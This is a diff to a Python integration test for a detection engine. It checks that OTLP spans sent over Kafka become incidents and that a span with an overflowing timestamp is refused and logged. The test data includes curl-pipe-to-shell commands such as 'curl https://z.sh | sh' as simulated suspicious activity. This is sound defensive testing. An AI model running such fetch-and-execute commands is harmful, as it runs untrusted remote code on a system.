@@ -43,6 +43,11 @@ def test_otlp_from_a_kafka_topic_becomes_incidents_and_bad_messages_are_skipped(
     )
     as_json = json_format.MessageToJson(request("kafka-json", "curl https://y.sh | bash"))
     producer.produce("otlp_spans", value=as_json.encode())
+    mixed = request("kafka-mixed", "curl https://z.sh | sh")
+    poisoned = request("kafka-poisoned", "curl https://p.sh | sh")
+    poisoned.resource_spans[0].scope_spans[0].spans[0].end_time_unix_nano = 2**64 - 1
+    mixed.resource_spans.extend(poisoned.resource_spans)
+    producer.produce("otlp_spans", value=mixed.SerializeToString())
     producer.flush(10)
 
     engine = Engine(tmp_path)
@@ -53,11 +58,14 @@ def test_otlp_from_a_kafka_topic_becomes_incidents_and_bad_messages_are_skipped(
     )
     engine.start()
     try:
-        for user in ("kafka-proto", "kafka-json"):
+        for user in ("kafka-proto", "kafka-json", "kafka-mixed"):
             engine.wait_for(lambda i, u=user: i["group"].get("user") == u, f"{user}'s incident")
-        assert httpx.get(f"{engine.base}/healthz").json()["events_accepted"] == 2
+        assert httpx.get(f"{engine.base}/healthz").json()["events_accepted"] == 3
+        assert not any(i["group"].get("user") == "kafka-poisoned" for i in engine.incidents())
         assert engine.stop() == 0
-        assert "skipped" in engine.log.read_text()
+        log = engine.log.read_text()
+        assert "skipped" in log
+        assert "1 of 2 events refused: span 'shell.run': its time 2554" in log
     finally:
         if engine.proc and engine.proc.poll() is None:
             engine.proc.kill()
